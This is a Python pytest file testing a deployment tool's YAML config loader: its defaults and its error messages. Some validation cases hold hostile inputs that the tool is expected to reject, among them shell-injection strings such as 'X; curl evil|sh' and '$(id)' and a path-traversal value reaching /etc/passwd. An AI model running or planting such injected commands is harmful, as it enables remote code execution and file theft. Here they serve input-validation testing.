"""deploy.config.models: the config file, its defaults, and error messages that name file, key path and expectation."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from deploy.config.models import (
    Config,
    Environment,
    HealthCheck,
    HostConfig,
    Migrate,
    Pipeline,
    Shared,
    Ssh,
    Task,
    Timeouts,
    load_config,
    parse_config,
)
from deploy.errors import ConfigError

FULL_YAML = """\
app: shop
repo: git@example.com:acme/shop.git
deploy_to: /srv/shop
keep_releases: 3
keep_failed_releases: true
ssh:
  user: deployer
  port: 2222
  identity: ~/.ssh/shop
  jump_host: bastion.example.com
  keepalive_interval: 30s
environments:
  staging:
    hosts:
      - address: staging1.example.com
        name: stg-1
        roles: [web, migrate]
  production:
    ref: v1.2.3
    hosts:
      - {address: 10.0.0.1, roles: [web, migrate]}
      - {address: 10.0.0.2, roles: [web], port: 22, user: web, deploy_to: /opt/shop}
shared:
  files: [config/database.yml]
  dirs: [log, tmp/pids]
pipeline:
  transfer: git
  build: ./build.sh
  migrate: {run: ./migrate.sh}
  restart: sudo systemctl restart shop
  healthcheck: {run: curl -fsS localhost:8080/health, timeout: 5s, retries: 3, interval: 500ms}
tasks:
  clear-cache: {roles: [web], run: ./clear.sh, timeout: 2m}
timeouts: {build: 1h, restart: 90}
env: {RAILS_ENV: production}
secret_env: [DATABASE_PASSWORD]
aliases: {prod: production}
access: {deploy: {production: [U0ALICE]}}
"""

FULL_CONFIG = Config(
    app="shop",
    repo="git@example.com:acme/shop.git",
    deploy_to="/srv/shop",
    keep_releases=3,
    keep_failed_releases=True,
    ssh=Ssh(
        user="deployer",
        port=2222,
        identity="~/.ssh/shop",
        known_hosts="~/.ssh/known_hosts",
        connect_concurrency=30,
        jump_host="bastion.example.com",
        keepalive_interval=30.0,
    ),
    environments={
        "staging": Environment(
            ref="main", hosts=[HostConfig(address="staging1.example.com", name="stg-1", roles=["web", "migrate"])]
        ),
        "production": Environment(
            ref="v1.2.3",
            hosts=[
                HostConfig(address="10.0.0.1", roles=["web", "migrate"]),
                HostConfig(address="10.0.0.2", roles=["web"], port=22, user="web", deploy_to="/opt/shop"),
            ],
        ),
    },
    shared=Shared(files=["config/database.yml"], dirs=["log", "tmp/pids"]),
    pipeline=Pipeline(
        transfer="git",
        build=["./build.sh"],
        migrate=Migrate(roles=["migrate"], run="./migrate.sh"),
        restart="sudo systemctl restart shop",
        healthcheck=HealthCheck(run="curl -fsS localhost:8080/health", timeout=5.0, retries=3, interval=0.5),
    ),
    tasks={"clear-cache": Task(roles=["web"], run="./clear.sh", timeout=120.0)},
    timeouts=Timeouts(
        connect=15.0,
        transfer=600.0,
        build=3600.0,
        migrate=1800.0,
        switch=30.0,
        restart=90.0,
        task=600.0,
        command=60.0,
    ),
    env={"RAILS_ENV": "production"},
    secret_env=["DATABASE_PASSWORD"],
    aliases={"prod": "production"},
    access={"deploy": {"production": ["U0ALICE"]}},
)


def minimal() -> dict[str, Any]:
    return {
        "app": "shop",
        "repo": "git@example.com:acme/shop.git",
        "deploy_to": "/srv/shop",
        "environments": {"staging": {"hosts": [{"address": "web1"}, {"address": "web2"}]}},
    }


def test_every_documented_key_is_read_from_the_file(tmp_path: Path) -> None:
    path = tmp_path / "shipbot.yml"
    path.write_text(FULL_YAML, encoding="utf-8")
    assert FULL_CONFIG == load_config(path)


def test_a_minimal_config_gets_the_documented_defaults() -> None:
    expected = Config(
        app="shop",
        repo="git@example.com:acme/shop.git",
        deploy_to="/srv/shop",
        keep_releases=5,
        keep_failed_releases=False,
        ssh=Ssh(
            user="deploy",
            port=22,
            identity=None,
            known_hosts="~/.ssh/known_hosts",
            connect_concurrency=30,
            jump_host=None,
            keepalive_interval=15.0,
        ),
        environments={
            "staging": Environment(ref="main", hosts=[HostConfig(address="web1"), HostConfig(address="web2")])
        },
        shared=Shared(files=[], dirs=[]),
        pipeline=Pipeline(transfer="upload", build=[], migrate=None, restart=None, healthcheck=None),
        tasks={},
        timeouts=Timeouts(
            connect=15.0,
            transfer=600.0,
            build=1800.0,
            migrate=1800.0,
            switch=30.0,
            restart=120.0,
            task=600.0,
            command=60.0,
        ),
        env={},
        secret_env=[],
        aliases={},
        access={},
    )
    assert expected == parse_config(minimal())


def test_a_health_check_gets_its_documented_defaults() -> None:
    data = {**minimal(), "pipeline": {"healthcheck": {"run": "./health.sh"}}}
    expected = HealthCheck(run="./health.sh", timeout=30.0, retries=10, interval=1.0)
    assert expected == parse_config(data).pipeline.healthcheck


def test_a_single_build_command_may_be_written_as_a_string() -> None:
    data = {**minimal(), "pipeline": {"build": "make"}}
    assert ["make"] == parse_config(data).pipeline.build


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """Set a dotted key path (``environments.staging.hosts.1.port``) in the minimal config."""

    def apply(data: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node: Any = data
        for key in parents:
            node = node[int(key)] if key.isdigit() else node.setdefault(key, {})
        if last.isdigit():
            node[int(last)] = value
        else:
            node[last] = value

    return apply


def _drop(key: str) -> Callable[[dict[str, Any]], None]:
    return lambda data: data.pop(key) and None


def _both(*changes: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    def apply(data: dict[str, Any]) -> None:
        for change in changes:
            change(data)

    return apply


UNKNOWN = "unknown key; the README's config reference lists the keys allowed here"


@pytest.mark.parametrize(
    ("change", "problems"),
    [
        pytest.param(
            _set("environments.staging.hosts.1.port", "x"),
            [
                "environments.staging.hosts[1].port: Input should be a valid integer, "
                "unable to parse string as an integer (got 'x')"
            ],
            id="host-port-not-a-number",
        ),
        pytest.param(
            _set("environments.staging.hosts.1.port", 70000),
            ["environments.staging.hosts[1].port: Input should be less than or equal to 65535 (got 70000)"],
            id="host-port-too-high",
        ),
        pytest.param(
            _set("ssh.port", 0),
            ["ssh.port: Input should be greater than or equal to 1 (got 0)"],
            id="ssh-port-zero",
        ),
        pytest.param(
            _set("environments.staging.hosts.0.adress", "web9"),
            [f"environments.staging.hosts[0].adress: {UNKNOWN} (got 'web9')"],
            id="misspelt-host-key",
        ),
        pytest.param(
            _set("deploy_too", "/srv/x"),
            [f"deploy_too: {UNKNOWN} (got '/srv/x')"],
            id="misspelt-top-level-key",
        ),
        pytest.param(
            _set("pipeline.stages", ["a"]),
            [f"pipeline.stages: {UNKNOWN}"],
            id="unknown-key-with-list-value-does-not-echo-it",
        ),
        pytest.param(_drop("app"), ["app: Field required"], id="missing-app"),
        pytest.param(
            _set("environments.staging", {}),
            ["environments.staging: give hosts: (at least one) or discover: (sources that find them)"],
            id="environment-without-hosts",
        ),
        pytest.param(
            _set("environments.staging.hosts", []),
            ["environments.staging: give hosts: (at least one) or discover: (sources that find them)"],
            id="environment-with-empty-host-list",
        ),
        pytest.param(
            _set("environments.staging.hosts", "web1"),
            ["environments.staging.hosts: Input should be a valid list (got 'web1')"],
            id="hosts-not-a-list",
        ),
        pytest.param(
            _set("environments", {}),
            ["environments: Dictionary should have at least 1 item after validation, not 0"],
            id="no-environments",
        ),
        pytest.param(
            _set("environments.staging.hosts.0.address", "web1;reboot"),
            [
                "environments.staging.hosts[0].address: 'web1;reboot' is not a host name or IP address (got 'web1;reboot')"
            ],
            id="hostile-address",
        ),
        pytest.param(
            _set("environments.staging.hosts.0.user", "Root$"),
            ["environments.staging.hosts[0].user: 'Root$' is not a valid login name (got 'Root$')"],
            id="hostile-host-user",
        ),
        pytest.param(
            _set("ssh.user", "$(id)"),
            ["ssh.user: '$(id)' is not a valid login name (got '$(id)')"],
            id="hostile-ssh-user",
        ),
        pytest.param(
            _set("environments.staging.hosts.0.deploy_to", "srv/shop"),
            ["environments.staging.hosts[0].deploy_to: deploy_to must be an absolute path (got 'srv/shop')"],
            id="relative-host-deploy-to",
        ),
        pytest.param(
            _set("deploy_to", "srv/shop"),
            ["deploy_to: deploy_to must be an absolute path (got 'srv/shop')"],
            id="relative-deploy-to",
        ),
        pytest.param(
            _set("app", "My Shop"),
            ["app: app name 'My Shop' must be lowercase letters, digits, '.', '_' or '-' (got 'My Shop')"],
            id="app-name",
        ),
        pytest.param(
            _set("environments.Prod", {"hosts": [{"address": "a"}]}),
            ["environments: environment name 'Prod' must be lowercase letters, digits, '.', '_' or '-'"],
            id="environment-name",
        ),
        pytest.param(
            _set("environments.staging.ref", "main;reboot"),
            ["environments.staging.ref: a ref may not contain ';' (got 'main;reboot')"],
            id="environment-ref",
        ),
        pytest.param(
            _set("environments.staging.hosts.1", {"address": "web1"}),
            ["environments.staging: host web1 (port default) is listed twice"],
            id="same-host-twice",
        ),
        pytest.param(
            _set(
                "environments.staging.hosts", [{"address": "web1", "name": "web"}, {"address": "web2", "name": "web"}]
            ),
            ["environments: environment 'staging' names two hosts 'web': a host's name must be unique"],
            id="same-name-twice",
        ),
        pytest.param(
            _set("environments.staging.hosts.0.name", "web 1"),
            ["environments.staging.hosts[0].name: 'web 1' is not a host name or IP address (got 'web 1')"],
            id="host-name-with-a-space",
        ),
        pytest.param(
            _set("keep_releases", 0),
            ["keep_releases: Input should be greater than or equal to 1 (got 0)"],
            id="keep-no-releases",
        ),
        pytest.param(
            _set("timeouts.build", "forever"),
            ["timeouts.build: 'forever' is not a duration; write it like 30s, 5m, 1h30m or 500ms (got 'forever')"],
            id="timeout-not-a-duration",
        ),
        pytest.param(
            _set("timeouts.build", -1),
            ["timeouts.build: a duration may not be negative (got -1)"],
            id="timeout-negative",
        ),
        pytest.param(
            _set("timeouts.build", True),
            ["timeouts.build: expected a duration like 30s, 5m or 1h, not a boolean (got True)"],
            id="timeout-boolean",
        ),
        pytest.param(
            _set("tasks.cc", {"run": "x", "timeout": "soon"}),
            ["tasks.cc.timeout: 'soon' is not a duration; write it like 30s, 5m, 1h30m or 500ms (got 'soon')"],
            id="task-timeout",
        ),
        pytest.param(
            _set("tasks.Clear Cache", {"run": "x"}),
            ["tasks: task name 'Clear Cache' must be lowercase letters, digits, '.', '_' or '-'"],
            id="task-name",
        ),
        pytest.param(
            _set("pipeline.healthcheck", {"run": "x", "retries": 0}),
            ["pipeline.healthcheck.retries: Input should be greater than or equal to 1 (got 0)"],
            id="health-check-never-tried",
        ),
        pytest.param(
            _set("pipeline.healthcheck", {}),
            ["pipeline.healthcheck.run: Field required"],
            id="health-check-without-command",
        ),
        pytest.param(
            _set("pipeline.migrate", {"roles": ["db"]}),
            ["pipeline.migrate.run: Field required"],
            id="migration-without-command",
        ),
        pytest.param(
            _set("pipeline.transfer", "rsync"),
            ["pipeline.transfer: Input should be 'upload' or 'git' (got 'rsync')"],
            id="unknown-transfer",
        ),
        pytest.param(
            _set("shared.dirs", ["/var/log"]),
            ["shared.dirs: '/var/log' must be a path relative to the release, without '..'"],
            id="absolute-shared-dir",
        ),
        pytest.param(
            _set("shared.files", ["config/../../etc/passwd"]),
            ["shared.files: 'config/../../etc/passwd' must be a path relative to the release, without '..'"],
            id="shared-file-escaping-the-release",
        ),
        pytest.param(
            _set("shared.files", [""]),
            ["shared.files: '' must be a path relative to the release, without '..'"],
            id="empty-shared-file",
        ),
        pytest.param(
            _set("env", {"bad-key": "x"}),
            ["env: 'bad-key' is not an environment variable name (A-Z, 0-9, _)"],
            id="env-name",
        ),
        pytest.param(
            _set("env", {"A": 1}),
            ["env.A: Input should be a valid string (got 1)"],
            id="env-value-not-a-string",
        ),
        pytest.param(
            _set("secret_env", "TOKEN"),
            ["secret_env: Input should be a valid list (got 'TOKEN')"],
            id="secret-env-not-a-list",
        ),
        pytest.param(
            _set("secret_env", ["TOKEN", "X; curl evil|sh"]),
            ["secret_env[1]: 'X; curl evil|sh' is not a shell variable name (letters, digits, _; not a digit first)"],
            id="secret-env-name-not-a-shell-name",
        ),
        pytest.param(
            _set("secret_env", ["1PASSWORD"]),
            ["secret_env[0]: '1PASSWORD' is not a shell variable name (letters, digits, _; not a digit first)"],
            id="secret-env-name-starting-with-a-digit",
        ),
        pytest.param(
            _set("ssh.connect_concurrency", 0),
            ["ssh.connect_concurrency: Input should be greater than or equal to 1 (got 0)"],
            id="no-connections-allowed",
        ),
        pytest.param(
            _both(_set("keep_releases", "many"), _set("environments.staging.hosts.1.port", 0)),
            [
                "keep_releases: Input should be a valid integer, unable to parse string as an integer (got 'many')",
                "environments.staging.hosts[1].port: Input should be greater than or equal to 1 (got 0)",
            ],
            id="every-problem-is-listed",
        ),
    ],
)
def test_config_errors_name_the_file_the_key_path_and_what_was_expected(
    change: Callable[[dict[str, Any]], None], problems: list[str]
) -> None:
    data = minimal()
    change(data)
    with pytest.raises(ConfigError) as caught:
        parse_config(data, "deploy/shipbot.yml")
    lines = "".join(f"\n  - {p}" for p in problems)
    assert ("deploy/shipbot.yml", problems, f"deploy/shipbot.yml: invalid config{lines}") == (
        caught.value.file,
        caught.value.problems,
        str(caught.value),
    )


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(None, id="empty-document"),
        pytest.param(["app", "shop"], id="list"),
        pytest.param("app: shop", id="string"),
    ],
)
def test_a_config_that_is_not_a_mapping_is_refused(data: Any) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_config(data, "shipbot.yml")
    assert (
        "shipbot.yml: invalid config\n  - (top level): expected a mapping of keys like app, repo, environments"
        == str(caught.value)
    )


@pytest.mark.parametrize(
    ("text", "problems"),
    [
        pytest.param(
            "app: shop\nrepo: [unclosed\ndeploy_to: /srv\n",
            ["line 3, column 10: not valid YAML: expected ',' or ']', but got ':'"],
            id="unclosed-list",
        ),
        pytest.param(
            "app: shop\n\tbad: tab\n",
            ["line 2, column 1: not valid YAML: found character '\\t' that cannot start any token"],
            id="tab-indent",
        ),
        pytest.param("", ["(top level): expected a mapping of keys like app, repo, environments"], id="empty-file"),
        pytest.param(
            "- a\n- b\n", ["(top level): expected a mapping of keys like app, repo, environments"], id="top-level-list"
        ),
        pytest.param(
            "app: shop\n",
            ["repo: Field required", "deploy_to: Field required", "environments: Field required"],
            id="missing-keys",
        ),
    ],
)
def test_load_config_names_the_file_and_where_in_it_things_went_wrong(
    tmp_path: Path, text: str, problems: list[str]
) -> None:
    path = tmp_path / "shipbot.yml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert (str(path), problems) == (caught.value.file, caught.value.problems)


def test_a_missing_config_file_says_how_to_point_at_one(tmp_path: Path) -> None:
    path = tmp_path / "nope.yml"
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert f"{path}: invalid config\n  - file not found; pass --config FILE or set SHIPBOT_CONFIG" == str(caught.value)


def test_a_config_path_that_is_a_directory_cannot_be_read(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        load_config(tmp_path)
    assert (str(tmp_path), ["cannot read the file: Is a directory"]) == (caught.value.file, caught.value.problems)


@pytest.mark.parametrize(
    "yaml_value",
    [
        pytest.param("", id="empty-value"),
        pytest.param("[30s]", id="list"),
        pytest.param("{s: 30}", id="mapping"),
    ],
)
def test_a_duration_that_is_not_a_string_or_number_is_a_config_error(tmp_path: Path, yaml_value: str) -> None:
    path = tmp_path / "shipbot.yml"
    path.write_text(
        f"app: shop\nrepo: r\ndeploy_to: /srv/shop\nenvironments: {{staging: {{hosts: [{{address: web1}}]}}}}\n"
        f"timeouts:\n  connect: {yaml_value}\n",
        encoding="utf-8",
    )
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert ["timeouts.connect"] == [p.split(":", 1)[0] for p in caught.value.problems]


def test_a_config_file_that_is_not_utf8_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "shipbot.yml"
    path.write_bytes(b"app: caf\xe9\n")
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert str(path) == caught.value.file


def test_an_alias_to_an_unknown_environment_names_the_aliases_key() -> None:
    data = {**minimal(), "aliases": {"prod": "production"}}
    with pytest.raises(ConfigError) as caught:
        parse_config(data, "shipbot.yml")
    assert ["aliases"] == [p.split(":", 1)[0].split(".", 1)[0] for p in caught.value.problems]


@pytest.mark.parametrize(
    ("ssh", "explicit_port"),
    [
        pytest.param({}, 22, id="default-22"),
        pytest.param({"port": 2222}, 2222, id="configured-default"),
    ],
)
def test_the_same_host_with_its_port_spelt_out_is_listed_twice(ssh: dict[str, Any], explicit_port: int) -> None:
    data = {
        **minimal(),
        "ssh": ssh,
        "environments": {"staging": {"hosts": [{"address": "web1"}, {"address": "web1", "port": explicit_port}]}},
    }
    with pytest.raises(ConfigError) as caught:
        parse_config(data, "shipbot.yml")
    assert [(True, True)] == [(p.startswith("environments"), "web1" in p) for p in caught.value.problems]


def test_a_key_written_twice_is_an_error_not_a_silently_dropped_environment(tmp_path: Path) -> None:
    path = tmp_path / "shipbot.yml"
    path.write_text(
        "app: shop\nrepo: r\ndeploy_to: /srv/shop\nenvironments:\n"
        "  production:\n    hosts: [{address: web1}, {address: web2}]\n"
        "  production:\n    hosts: [{address: web3}]\n",
        encoding="utf-8",
    )
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert str(path) == caught.value.file
